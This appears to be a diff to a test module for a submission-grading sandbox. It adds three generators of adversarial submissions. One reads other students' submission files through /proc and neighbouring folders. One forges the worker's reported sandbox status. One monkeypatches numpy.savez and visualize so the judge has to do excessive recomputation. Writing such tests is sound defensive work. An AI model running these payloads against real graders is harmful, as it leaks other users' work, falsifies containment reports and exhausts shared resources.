@@ -277,3 +277,105 @@ print({payload!r})
 import sys as _sys_cc
 print({payload!r}, file=_sys_cc.stderr)
 '''
+
+
+def neighbour_reader(reference, marker, wait=20):
+    """Looks for other students' workers (their command lines in /proc, their folders next to its own)
+    and tries to read their in/submission.py; build_losses raises what it found: how many folders it
+    saw and every `marker-<name>` line it could read in them. Polls up to `wait` seconds, once."""
+    return reference + f'''
+
+_NEIGHBOURS = []
+
+
+def _read_neighbours():
+    import glob, os, re, time
+    own = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+    seen, stolen, end = set(), set(), time.time() + {wait}
+    while time.time() < end and not stolen:
+        for d in os.listdir("/proc"):
+            if d.isdigit():
+                try:
+                    with open("/proc/%s/cmdline" % d, "rb") as f:
+                        argv = f.read().split(b"\\0")
+                except OSError:
+                    continue
+                for a in argv:
+                    if a.endswith(b"/in/worker.py"):
+                        seen.add(os.path.dirname(os.path.dirname(a.decode("utf-8", "replace"))))
+        seen.update(glob.glob(os.path.join(os.path.dirname(own), "e6w-*")))
+        seen.discard(own)
+        for root in sorted(seen):
+            try:
+                with open(os.path.join(root, "in", "submission.py"), encoding="utf-8") as f:
+                    stolen.update(re.findall({marker!r} + r"-\\w+", f.read()))
+            except (OSError, UnicodeDecodeError):
+                pass
+        time.sleep(0.5)
+    return "NEIGHBOURS_SEEN=%d STOLEN=[%s]" % (len(seen), " ".join(sorted(stolen)))
+
+
+def build_losses(*a, **k):
+    if not _NEIGHBOURS:
+        _NEIGHBOURS.append(_read_neighbours())
+    raise RuntimeError(_NEIGHBOURS[0])
+'''
+
+
+def protection_forger(reference):
+    """Claims a Landlock that does not exist: the worker runs as __main__ in the same process, so its
+    module global SANDBOX (what its import reply says contained it) can be rewritten at import."""
+    return reference + '''
+
+import sys as _sys_forge
+
+_sys_forge.modules["__main__"].SANDBOX = "landlock ABI 99"
+'''
+
+
+def judge_work(reference, rows=16):
+    """Makes the judge recompute G on many images: visualize calls G eight times (one image each, all
+    recorded), then the worker's numpy.savez is replaced so that every recorded call holds `rows`
+    images (blank, so the file stays small), with G's real eval-mode outputs on them (so the judge
+    recomputes every call before it could find anything wrong): 8 x `rows` x 2 forward passes of G
+    in the judge, 64 MB of arrays once inflated for rows=16."""
+    return reference + f'''
+
+import numpy as _np_jw
+
+_JW = {{}}
+_real_savez_jw = _np_jw.savez
+_real_visualize_jw = visualize
+
+
+def _savez_jw(file, *a, **arrays):
+    if "in0" in arrays and "out0" in arrays and "G" in _JW:
+        import torch
+        G = _JW["G"]
+        G.eval()
+        x = torch.zeros({rows}, 1, 256, 256)  # compresses to nearly nothing: fits any scratch quota
+        with torch.no_grad():
+            y = G(x).numpy()
+        arrays = {{}}
+        for k in range(_JW["calls"]):
+            arrays["in%d" % k], arrays["out%d" % k] = x.numpy(), y
+        return _np_jw.savez_compressed(file, *a, **arrays)
+    return _real_savez_jw(file, *a, **arrays)
+
+
+_np_jw.savez = _savez_jw
+
+
+def visualize(G, dataset, device, path, indices=(0,), title=None):
+    import torch
+    n = [0]
+    h = G.register_forward_hook(lambda *_: n.__setitem__(0, n[0] + 1))
+    out = _real_visualize_jw(G, dataset, device, path, indices=indices, title=title)
+    G.eval()
+    with torch.no_grad():
+        while n[0] < 8:
+            G(dataset[indices[0]][0].unsqueeze(0))
+    h.remove()
+    _JW["G"], _JW["calls"] = G, n[0]
+    return out
+'''
